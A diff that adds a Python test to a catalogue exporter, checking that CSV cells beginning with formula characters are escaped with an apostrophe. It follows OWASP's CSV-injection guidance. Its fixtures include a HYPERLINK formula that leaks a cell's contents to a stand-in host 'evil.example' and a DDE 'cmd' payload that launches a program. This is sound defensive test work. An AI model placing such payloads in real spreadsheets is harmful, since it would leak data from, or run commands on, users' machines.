@@ -499,3 +499,26 @@ def test_whole_catalogue_files_joined_from_fragments_equal_the_exporters():
     for record, piece in zip(records, pieces, strict=True):
         assert pages.record_exports(record, piece) == {
             key: export([record]) for key, _, _, export in pages.MACHINE_FORMATS}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1"]
+
+
+def test_csv_cells_never_start_a_formula_and_read_back_as_written(tmp_path, capsys):
+    """OWASP CSV injection: a cell that a spreadsheet would evaluate starts with an apostrophe,
+    which spreadsheets hide; every cell of the command's file and the site's file is checked."""
+    from dnm_catalogue.fragments import csv_file, record_fragments
+
+    record = make_record(title=FORMULAS[0], keywords=FORMULAS[1:], place="=cmd|' /C calc'!A0")
+    for text in (to_csv([record]), csv_file([record_fragments(record)])):
+        rows = list(csv.reader(io.StringIO(text)))
+        assert len(rows) == 2
+        for cell in (cell for row in rows for cell in row):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        row = dict(zip(rows[0], rows[1], strict=True))
+        assert row["title"] == "'" + FORMULAS[0]
+        assert row["place"] == "'=cmd|' /C calc'!A0"
+        # Lists are joined into one cell, which starts with the first keyword's formula sign.
+        assert row["keywords"] == "'" + "; ".join(FORMULAS[1:])
+    assert to_csv([record]) == csv_file([record_fragments(record)])
